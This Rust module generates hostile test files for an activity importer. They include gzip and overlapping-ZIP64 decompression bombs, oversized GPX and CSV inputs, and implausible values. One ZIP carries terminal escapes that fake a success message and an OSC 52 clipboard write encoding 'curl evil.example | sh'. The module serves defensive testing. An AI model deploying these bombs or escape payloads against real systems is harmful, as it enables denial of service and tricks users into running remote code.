//! Hostile files (issue 12): small inputs that would buy large costs, written at test time, never
//! committed. Each is sized by its arguments, so that a test proves a limit with a small budget;
//! [`full_size`] lists them at the sizes the hostile-input review used, which `make-corpus
//! hostile DIR` writes for `scripts/bench-hostile`.

use std::fmt::Write as _;
use std::io::{self, Cursor, Write};

use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder};

const MIB: usize = 1 << 20;

/// One hostile file as the benchmark writes it.
#[derive(Debug, Clone, Copy)]
pub struct Hostile {
    /// Its file name, which is also how the runner would see it.
    pub name: &'static str,
    /// The item it is for, and what it tries.
    pub what: &'static str,
    pub write: fn(&mut dyn Write) -> io::Result<()>,
}

/// Every hostile file at full size.
pub fn full_size() -> Vec<Hostile> {
    fn put(out: &mut dyn Write, bytes: Vec<u8>) -> io::Result<()> {
        out.write_all(&bytes)
    }
    vec![
        Hostile {
            name: "name-amplification.gpx",
            what: "1: a 10 MiB name copied into each of 2,000 tracks",
            write: |out| put(out, gpx_named_tracks(10 * MIB, 2_000)),
        },
        Hostile {
            name: "many-tracks.gpx",
            what: "1: 200,000 tracks, one activity each",
            write: |out| put(out, gpx_named_tracks(0, 200_000)),
        },
        Hostile {
            name: "million-rows.zip",
            what: "1: an activities.csv of a million runs without files",
            write: |out| put(out, strava_rows(1_000_000)),
        },
        Hostile {
            name: "fit-parts-bomb.fit.gz",
            what: "2: 256 MiB of empty chained FIT headers, gzipped",
            write: |out| fit_empty_parts_gz(16 * MIB, out),
        },
        Hostile {
            name: "overlapping.zip",
            what: "3: 25,000 directory entries replaying one 1 MiB bomb",
            write: |out| put(out, zip_overlapping(25_000, MIB)),
        },
        Hostile {
            name: "gzip-entries.zip",
            what: "3: 1,000 gzip entries, each a bomb within its own ratio",
            write: |out| put(out, zip_of_gzips(1_000, &fit_empty_parts(MIB / 16))),
        },
        Hostile {
            name: "wide.zip",
            what: "4: an activities.csv of 100,000 columns",
            write: |out| put(out, strava_wide(100_000, 12)),
        },
        Hostile {
            name: "huge.gpx",
            what: "5: a 477 MiB GPX",
            write: |out| gpx_large(477 * MIB as u64, out),
        },
        Hostile {
            name: "escapes.zip",
            what: "7: terminal escapes in entry names, a track name and gear",
            write: |out| put(out, zip_escapes()),
        },
        Hostile {
            name: "implausible.tcx",
            what: "9: 1e300 m in 1e300 s",
            write: |out| put(out, tcx_implausible()),
        },
        Hostile {
            name: "year-9999.gpx",
            what: "9: a run in the year 9999",
            write: |out| put(out, gpx_in_year(9999)),
        },
    ]
}

/// A ZIP of `entries`, deflated.
pub fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    use zip::write::SimpleFileOptions;
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in entries {
        // Writing to memory fails only on a name the format cannot hold; leave that entry out.
        if zip.start_file(*name, options).is_ok() {
            let _ = zip.write_all(bytes);
        }
    }
    zip.finish().map(Cursor::into_inner).unwrap_or_default()
}

fn iso(t: i64) -> String {
    jiff::Timestamp::from_second(t).map(|t| t.to_string()).unwrap_or_default()
}

fn point(t: i64, lat: f64) -> String {
    format!("<trkpt lat=\"{lat:.5}\" lon=\"8.0\"><time>{}</time></trkpt>", iso(t))
}

/// Item 1: a GPX whose metadata `<name>` is `name_bytes` long, followed by `tracks` unnamed
/// tracks, each an hour and a half after the one before, so that each is an activity that would
/// take the name.
pub fn gpx_named_tracks(name_bytes: usize, tracks: usize) -> Vec<u8> {
    let mut s = String::with_capacity(name_bytes + tracks * 200 + 200);
    s.push_str("<?xml version=\"1.0\"?><gpx version=\"1.1\" creator=\"hostile\"><metadata><name>");
    s.extend(std::iter::repeat_n('n', name_bytes));
    s.push_str("</name></metadata>");
    let start = 1_600_000_000i64;
    for i in 0..tracks as i64 {
        let t = start + i * 5400;
        let _ = write!(
            s,
            "<trk><type>running</type><trkseg>{}{}</trkseg></trk>",
            point(t, 49.0),
            point(t + 600, 49.01)
        );
    }
    s.push_str("</gpx>");
    s.into_bytes()
}

const CSV_HEADER: &str = "Activity ID,Activity Date,Activity Name,Activity Type,Elapsed Time,\
    Distance,Activity Gear,Filename,Moving Time,Distance";

/// Item 1: a Strava export whose `activities.csv` has `rows` runs logged by hand (no files).
pub fn strava_rows(rows: usize) -> Vec<u8> {
    let mut csv = String::with_capacity(rows * 80 + 200);
    csv.push_str(CSV_HEADER);
    csv.push('\n');
    let start = 1_600_000_000i64;
    for i in 0..rows as i64 {
        let date = jiff::Timestamp::from_second(start + i * 3600)
            .map(|t| t.strftime("%b %-d, %Y, %-I:%M:%S %p").to_string())
            .unwrap_or_default();
        let _ = writeln!(csv, "{i},\"{date}\",Run {i},Run,1800,5.0,,,1800,5000");
    }
    zip_of(&[("export/activities.csv", csv.as_bytes())])
}

/// An empty FIT file: a 14-byte header declaring no data, and the file CRC over it.
fn empty_fit() -> [u8; 16] {
    let mut part = [14, 0x20, 0x5a, 0x08, 0, 0, 0, 0, b'.', b'F', b'I', b'T', 0, 0, 0, 0];
    let crc = crate::fit::crc16(&part[..14]).to_le_bytes();
    part[14..].copy_from_slice(&crc);
    part
}

/// One part in this many gets stray CRC bytes, which keeps the gzip just under the 200-fold
/// ratio a stream may have, as the review's bomb was (256 MiB in 1.4 MB).
const NOISE_EVERY: usize = 56;

/// Item 2: `parts` empty chained FIT headers (16 bytes each), gzipped as they are written.
pub fn fit_empty_parts_gz(parts: usize, out: &mut dyn Write) -> io::Result<()> {
    let mut gz = GzEncoder::new(out, Compression::best());
    let empty = empty_fit();
    let mut state = 0x9E37_79B9u32;
    let mut block = Vec::with_capacity(NOISE_EVERY * 16);
    let mut left = parts;
    while left > 0 {
        let n = left.min(NOISE_EVERY);
        block.clear();
        for _ in 0..n - 1 {
            block.extend_from_slice(&empty);
        }
        let mut noisy = empty;
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        noisy[14..16].copy_from_slice(&state.to_le_bytes()[..2]);
        block.extend_from_slice(&noisy);
        gz.write_all(&block)?;
        left -= n;
    }
    gz.finish()?;
    Ok(())
}

/// [`fit_empty_parts_gz`] in memory.
pub fn fit_empty_parts(parts: usize) -> Vec<u8> {
    let mut out = Vec::new();
    // Writing to a Vec cannot fail.
    let _ = fit_empty_parts_gz(parts, &mut out);
    out
}

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut e = DeflateEncoder::new(Vec::new(), Compression::best());
    let _ = e.write_all(data);
    e.finish().unwrap_or_default()
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = flate2::Crc::new();
    crc.update(data);
    crc.sum()
}

/// Item 3: a ZIP with one local entry, a bomb of empty FIT headers inflating to `inflated`
/// bytes, and `entries` central-directory entries that all point at it (ZIP64, so that there may
/// be more than 65,535).
pub fn zip_overlapping(entries: usize, inflated: usize) -> Vec<u8> {
    let data = empty_fit().repeat(inflated / 16);
    let packed = deflate(&data);
    let (crc, csize, usize_) = (crc32(&data), packed.len() as u32, data.len() as u32);
    let mut z = Vec::new();
    let name = b"bomb.fit";
    z.extend_from_slice(b"PK\x03\x04");
    z.extend_from_slice(&[20, 0, 0, 0, 8, 0, 0, 0, 0, 0]);
    z.extend_from_slice(&crc.to_le_bytes());
    z.extend_from_slice(&csize.to_le_bytes());
    z.extend_from_slice(&usize_.to_le_bytes());
    z.extend_from_slice(&(name.len() as u16).to_le_bytes());
    z.extend_from_slice(&0u16.to_le_bytes());
    z.extend_from_slice(name);
    z.extend_from_slice(&packed);
    let directory_start = z.len() as u64;
    for i in 0..entries {
        let name = format!("activities/{i}.fit");
        z.extend_from_slice(b"PK\x01\x02");
        z.extend_from_slice(&[20, 0, 20, 0, 0, 0, 8, 0, 0, 0, 0, 0]);
        z.extend_from_slice(&crc.to_le_bytes());
        z.extend_from_slice(&csize.to_le_bytes());
        z.extend_from_slice(&usize_.to_le_bytes());
        z.extend_from_slice(&(name.len() as u16).to_le_bytes());
        z.extend_from_slice(&[0; 12]);
        // Every entry's local header is the one at offset 0.
        z.extend_from_slice(&0u32.to_le_bytes());
        z.extend_from_slice(name.as_bytes());
    }
    let directory_size = z.len() as u64 - directory_start;
    let zip64_record = z.len() as u64;
    z.extend_from_slice(b"PK\x06\x06");
    z.extend_from_slice(&44u64.to_le_bytes());
    z.extend_from_slice(&[45, 0, 45, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    z.extend_from_slice(&(entries as u64).to_le_bytes());
    z.extend_from_slice(&(entries as u64).to_le_bytes());
    z.extend_from_slice(&directory_size.to_le_bytes());
    z.extend_from_slice(&directory_start.to_le_bytes());
    z.extend_from_slice(b"PK\x06\x07");
    z.extend_from_slice(&0u32.to_le_bytes());
    z.extend_from_slice(&zip64_record.to_le_bytes());
    z.extend_from_slice(&1u32.to_le_bytes());
    z.extend_from_slice(b"PK\x05\x06");
    z.extend_from_slice(&[0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff]);
    z.extend_from_slice(&u32::try_from(directory_size).unwrap_or(u32::MAX).to_le_bytes());
    z.extend_from_slice(&u32::try_from(directory_start).unwrap_or(u32::MAX).to_le_bytes());
    z.extend_from_slice(&[0, 0]);
    z
}

/// Item 3: a ZIP of `entries` stored `.fit.gz` files, each the gzip stream `gz`: each within
/// its own ratio limit, all of them together far beyond the archive's.
pub fn zip_of_gzips(entries: usize, gz: &[u8]) -> Vec<u8> {
    use zip::write::SimpleFileOptions;
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let stored = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for i in 0..entries {
        if zip.start_file(format!("activities/{i}.fit.gz"), stored).is_ok() {
            let _ = zip.write_all(gz);
        }
    }
    zip.finish().map(Cursor::into_inner).unwrap_or_default()
}

/// Item 4: a Strava export whose `activities.csv` has `columns` columns (Strava's own among
/// them, at the end) and `rows` rows.
pub fn strava_wide(columns: usize, rows: usize) -> Vec<u8> {
    let columns = columns.max(10);
    let mut csv = String::with_capacity(columns * 8 * (rows + 1));
    for i in 0..columns - 10 {
        let _ = write!(csv, "c{i},");
    }
    csv.push_str(CSV_HEADER);
    csv.push('\n');
    for r in 0..rows {
        csv.push_str(&",".repeat(columns - 10));
        let _ = writeln!(csv, "{r},\"Sep 14, 2019, 3:22:05 PM\",Wide,Run,60,1,,,60,1000");
    }
    zip_of(&[("activities.csv", csv.as_bytes())])
}

/// Item 5: a GPX of at least `bytes` bytes: one short track, then track points without times
/// (as much as it takes), written as it goes.
pub fn gpx_large(bytes: u64, out: &mut dyn Write) -> io::Result<()> {
    let head = format!(
        "<?xml version=\"1.0\"?><gpx version=\"1.1\" creator=\"hostile\"><trk><trkseg>{}{}",
        point(1_600_000_000, 49.0),
        point(1_600_000_600, 49.01)
    );
    out.write_all(head.as_bytes())?;
    let filler = "<trkpt lat=\"49.00000\" lon=\"8.00000\"><ele>100.0</ele></trkpt>\n".repeat(1000);
    let mut written = head.len() as u64;
    while written < bytes {
        out.write_all(filler.as_bytes())?;
        written += filler.len() as u64;
    }
    out.write_all(b"</trkseg></trk></gpx>\n")
}

/// Item 7: a ZIP whose entry names carry terminal escapes (a fake green summary that hides what
/// follows, an OSC 52 clipboard write), with a GPX whose track name does too.
pub fn zip_escapes() -> Vec<u8> {
    let fake = "\x1b[2K\r\x1b[32mImported 1, duplicates 0, not activities 0, failed 0 (all good)\x1b[0m\x1b[8m";
    let clipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
    let gpx = format!(
        "<?xml version=\"1.0\"?><gpx version=\"1.1\" creator=\"x\"><trk><name>{clipboard}Run</name>\
         <type>running</type><trkseg>{}{}</trkseg></trk></gpx>",
        point(1_600_000_000, 49.0),
        point(1_600_000_600, 49.01)
    );
    let csv = format!(
        "{CSV_HEADER}\n1,\"Sep 13, 2020, 12:26:40 PM\",\"Run{fake}\",Run,600,1.1,\"Shoe{clipboard}\",activities/run.gpx,600,1100\n"
    );
    zip_of(&[
        ("activities.csv", csv.as_bytes()),
        ("activities/run.gpx", gpx.as_bytes()),
        (&format!("{fake}.fit"), b"not a fit file"),
    ])
}

/// Item 9: a TCX lap that claims 1e300 m in 1e300 s.
pub fn tcx_implausible() -> Vec<u8> {
    "<?xml version=\"1.0\"?><TrainingCenterDatabase><Activities><Activity Sport=\"Running\">\
     <Id>2020-09-13T12:00:00Z</Id><Lap StartTime=\"2020-09-13T12:00:00Z\">\
     <TotalTimeSeconds>1e300</TotalTimeSeconds><DistanceMeters>1e300</DistanceMeters>\
     <Track><Trackpoint><Time>2020-09-13T12:00:00Z</Time></Trackpoint>\
     <Trackpoint><Time>2020-09-13T12:10:00Z</Time></Trackpoint></Track></Lap>\
     </Activity></Activities></TrainingCenterDatabase>"
        .as_bytes()
        .to_vec()
}

/// Item 9: a ten-minute GPX run on 1 January of `year`.
pub fn gpx_in_year(year: i16) -> Vec<u8> {
    let at = |minute: u32| format!("{year:04}-01-01T06:{minute:02}:00Z");
    format!(
        "<?xml version=\"1.0\"?><gpx version=\"1.1\" creator=\"x\"><trk><type>running</type><trkseg>\
         <trkpt lat=\"49.0\" lon=\"8.0\"><time>{}</time></trkpt>\
         <trkpt lat=\"49.01\" lon=\"8.0\"><time>{}</time></trkpt></trkseg></trk></gpx>",
        at(0),
        at(10)
    )
    .into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_hostile_files_are_what_they_say_at_a_small_size() {
        assert_eq!(gpx_named_tracks(100, 3).windows(5).filter(|w| w == b"<trk>").count(), 3);
        let fit = fit_empty_parts(100_000);
        let mut plain = Vec::new();
        std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&fit[..]), &mut plain)
            .unwrap();
        assert_eq!(plain.len(), 1_600_000);
        let ratio = plain.len() / fit.len();
        assert!((120..200).contains(&ratio), "just under a stream's limit: {ratio}");
        let zip = zip_overlapping(70_000, 4096);
        let archive = zip::ZipArchive::new(Cursor::new(&zip)).unwrap();
        assert_eq!(archive.len(), 70_000, "more than 65,535 entries, through ZIP64");
        let gzips = zip_of_gzips(3, &fit_empty_parts(256));
        assert_eq!(zip::ZipArchive::new(Cursor::new(gzips)).unwrap().len(), 3);
        assert!(String::from_utf8(gpx_in_year(1)).unwrap().contains("0001-01-01T06:10:00Z"));
        let mut big = Vec::new();
        gpx_large(200_000, &mut big).unwrap();
        assert!(big.len() >= 200_000);
    }
}
